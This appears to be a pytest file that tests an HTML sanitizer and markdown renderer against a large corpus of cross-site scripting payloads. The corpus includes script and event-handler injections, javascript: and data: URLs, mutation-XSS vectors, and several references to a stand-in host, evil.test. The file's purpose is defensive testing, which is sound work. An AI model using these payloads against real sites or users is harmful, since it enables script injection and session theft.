"""Nothing that runs survives. Judged by parsing the output as a browser would, not by looking for strings."""

import re
from collections.abc import Iterator
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from bs4 import BeautifulSoup

from core.text import clean_html, plain_text, render_markdown

# ruff: noqa: SIM905

TAGS = frozenset(
    """
    a abbr b blockquote br caption cite code dd del details dfn div dl dt em figcaption figure h1 h2 h3 h4 h5 h6 hr i
    img input ins kbd li mark ol p pre q s samp small span strong sub summary sup table tbody td tfoot th thead tr u
    ul var
    """.split()
)
ATTRIBUTES = frozenset(
    """
    href title class src alt width height checked value start reversed align colspan rowspan scope open rel loading
    type disabled
    """.split()
)

HTML = [
    # scripts
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)//",
    "<script src='data:text/javascript,alert(1)'>",
    "</script><script>alert(1)</script>",
    "<script>/*<!--*/alert(1)</script>-->",
    '<script type="text/template"><img src=x onerror=alert(1)></script>',
    # event attributes
    "<img src=x onerror=alert(1)>",
    '<img src="x"onerror="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img src=x oNeRrOr=alert`1`>",
    "<img src=x \x0conerror=alert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    "<body onload=alert(1)>",
    "<div onmouseover=alert(1)>x</div>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=# onclick=alert(1)>x</a>",
    "<p onpointerrawupdate=alert(1)>x</p>",
    "<b onbeforescriptexecute=alert(1)>x</b>",
    "<table background=javascript:alert(1)><tr><td onclick=alert(1)>x</table>",
    "<code class='language-x' onclick=alert(1)>x</code>",
    # addresses
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="&#x6a;avascript:alert(1)">x</a>',
    '<a href="&#0000106avascript:alert(1)">x</a>',
    '<a href="javascript://%0aalert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="blob:https://x/1">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="feed:javascript:alert(1)">x</a>',
    '<a href="view-source:javascript:alert(1)">x</a>',
    '<a href="\u2028javascript:alert(1)">x</a>',
    '<a href="\u00a0javascript:alert(1)">x</a>',
    '<a href="//evil.test/" target=_blank>x</a>',
    '<a href="/\\evil.test/">x</a>',
    '<a href="\\\\evil.test\\x">x</a>',
    '<a ping="https://evil.test/" href="/">x</a>',
    '<a xlink:href="javascript:alert(1)">x</a>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="DATA:image/png;base64,AAAA">',
    "<img srcset='x 1x, javascript:alert(1) 2x'>",
    '<img src="//evil.test/pixel">',
    "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>",
    # other elements that run, load or submit
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a>',
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>',
    '<math href="javascript:alert(1)">x</math>',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<applet code=x archive=//evil.test/x.jar></applet>",
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<isindex action=javascript:alert(1) type=image>",
    "<input type=image src=x onerror=alert(1)>",
    "<input type=text name=password value=x>",
    '<base href="//evil.test/">',
    '<link rel=stylesheet href="//evil.test/x.css">',
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import'//evil.test/x.css';</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='position:fixed;inset:0;z-index:9'>x</div>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<keygen autofocus onfocus=alert(1)>",
    "<frameset onload=alert(1)>",
    "<portal src='javascript:alert(1)'>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    # our own page's names
    '<a id="app" name="getElementById" href="/">x</a>',
    '<img name="body" src="/x.png">',
    '<div class="admin-only modal" data-controller="w-dialog">x</div>',
    # mutation: harmless when parsed once, not when written out and parsed again
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<title><a title="</title><img src=x onerror=alert(1)>">',
    '<style><a title="</style><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<noembed><a title="</noembed><img src=x onerror=alert(1)>">',
    '<iframe><a title="</iframe><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><math><table id='</table><img src=x onerror=alert(1)>'>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><desc><style><img title='</style><img src=x onerror=alert(1)>'></desc></svg>",
    "<math><annotation-xml encoding='text/html'><style><img title='</style><img src=x onerror=alert(1)>'>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<template><script>alert(1)</script></template>",
    "<a href='/'><table><a href='javascript:alert(1)'>x</table>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?><?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE x [<!ENTITY y 'z'>]><x>&y;</x>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<img alt='`><script>alert(1)</script>`' src=/x.png>",
    "<b title='\"><script>alert(1)</script>'>x</b>",
    "<b <script>alert(1)</script>>x</b>",
    "<b x='>' onclick=alert(1)>x</b>",
    "<b x=\"'>\" onclick='alert(1)'>x</b>",
    "<i/onclick=alert(1)>x</i>",
    "<em\x0conclick=alert(1)>x</em>",
    # entities and encodings
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<\u0000script>alert(1)</script>",
    "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
    "<ſcript>alert(1)</ſcript>",
    "<img src=x onerror=alert(1) \ud800>".encode("utf-8", "replace").decode(),
    '<pre class="language-x onclick=alert(1)"><code>x</code></pre>',
    '<pre class="language-x&quot; onclick=alert(1)"><code>x</code></pre>',
    "<img alt='<pre class=\"language-x\"><code>' src=/x.png>",
]

MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java\nscript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](\\javascript:alert(1))",
    "[x](//evil.test)",
    "[x](/\\evil.test)",
    '[x](/ "onclick=alert(1)")',
    '[x](/ "\\" onclick=\\"alert(1)")',
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[y]: /x 'a\" onmouseover=alert(1)'\n\n[y]",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '![" onerror="alert(1)](/x.png)',
    '![x](/x.png" onerror="alert(1))',
    "![x](//evil.test/pixel.png)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '<https://x.test/"onclick=alert(1)>',
    'https://x.test/"onmouseover=alert(1)',
    "www.x.test/<script>alert(1)</script>",
    "https://x.test/'onmouseover='alert(1)",
    'a@b.test"onclick=alert(1)',
    '```js" onclick=alert(1)\nx\n```',
    "```<script>alert(1)</script>\nx\n```",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "- [ ] <img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    '|a|\n|:-:" onclick=alert(1)|\n|b|',
    "# <img src=x onerror=alert(1)>",
    "> <script>\n> alert(1)\n> </script>",
    "<div>\n\n[x](javascript:alert(1))\n\n</div>",
    "<a href='`javascript:alert(1)`'>x</a>",
    "~~<b onclick=alert(1)>x</b>~~",
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "[<img src=x onerror=alert(1)>](https://x.test)",
    "<p>[x](javascript:alert(1))</p>",
    '[a](https://x.test/?q="><script>alert(1)</script>)',
]


def elements(html: str) -> Iterator[tuple[str, dict[str, str]]]:
    """Start tags of `html` as two different parsers find them; neither may find anything dangerous."""
    found: list[tuple[str, dict[str, str]]] = []

    class Collector(HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.append((tag, {name: value or "" for name, value in attrs}))

        def handle_comment(self, data):
            found.append(("!--", {}))

        def handle_decl(self, decl):
            found.append(("!", {}))

        def handle_pi(self, data):
            found.append(("?", {}))

    collector = Collector()
    collector.feed(html)
    collector.close()
    yield from found
    for tag in BeautifulSoup(html, "html.parser", multi_valued_attributes=None).find_all(True):
        yield tag.name, {name: str(value) for name, value in tag.attrs.items()}


def shape(html: str) -> tuple[list[tuple[str, list[tuple[str, str]]]], str]:
    """The elements of `html` in order, their attributes in any order, and the text."""
    found = [(tag, sorted(attributes.items())) for tag, attributes in elements(html)]
    return found, BeautifulSoup(html, "html.parser").get_text()


def assert_inert(html: str) -> None:
    for tag, attributes in elements(html):
        assert tag in TAGS, tag
        assert attributes.keys() <= ATTRIBUTES, attributes
        for name in ("href", "src"):
            value = attributes.get(name, "/")
            assert re.search(r"[\x00-\x20\x7f-\xa0\u2028\u2029\\]", value) is None, value
            assert not value.startswith("//"), value
            allowed = {"", "http", "https"} | ({"mailto"} if name == "href" else set())
            assert urlsplit(value).scheme in allowed, value
        if "href" in attributes:
            assert attributes["rel"] == "nofollow ugc noopener"
        if tag == "input":
            assert attributes.keys() <= {"type", "disabled", "checked"}
            assert attributes["type"] == "checkbox"
        assert re.fullmatch(
            r"(language-[\w+#.-]{1,40}|task-list-item|contains-task-list)?", attributes.get("class", "")
        )


@pytest.mark.parametrize("source", HTML)
def test_html_comes_out_inert(source):
    cleaned = clean_html(source)
    assert_inert(cleaned)
    assert shape(clean_html(cleaned)) == shape(cleaned), "a second parse must not see something else than the first"


@pytest.mark.parametrize("source", HTML + MARKDOWN)
def test_markdown_comes_out_inert(source):
    rendered = render_markdown(source)
    assert_inert(rendered)
    assert shape(clean_html(rendered)) == shape(rendered)


@pytest.mark.parametrize("source", HTML)
def test_text_within_attributes_and_blocks_stays_inert(source):
    assert_inert(clean_html(f'<p title="{source}">{source}</p><ul><li>{source}</table>'))
    assert_inert(render_markdown(f"- {source}\n\n> {source}\n\n[{source}]({source})"))


@pytest.mark.parametrize(
    "hidden", ["<script>secret</script>", "<style>secret</style>", "<svg><text>secret</text></svg>", "<!-- secret -->"]
)
def test_what_is_not_text_does_not_become_text(hidden):
    assert plain_text(f"<p>seen {hidden}</p>") == "seen"


def test_the_corpus_is_large():
    assert len({*HTML, *MARKDOWN}) >= 150
